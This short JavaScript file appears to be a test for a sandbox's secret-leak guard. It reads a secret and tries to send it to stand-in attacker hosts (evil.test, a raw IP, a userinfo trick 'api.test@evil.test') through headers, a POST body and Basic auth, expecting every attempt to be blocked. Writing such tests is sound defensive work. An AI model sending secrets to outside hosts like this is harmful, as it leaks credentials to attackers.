// ends: value []
// powers: fetch secrets
// limits: timeout_ms=20000 max_fetch_calls=100
const key = await getSecret("KEY"), told = [];
for (const host of ["evil.test", "api.test.evil.test", "evil-api.test", "x.api.test", "93.184.216.34", "api.test@evil.test"])
  for (const options of [{ headers: { X: key } }, { method: "POST", body: key }, { headers: { Authorization: "Basic " + toBase64("u:" + key) } }]) {
    const message = await fetch(`http://${host}/echo`, options).then(r => r.body, e => e.message);
    if (!/is not sent to|invalid URL/.test(message)) told.push(message);
  }
return told;
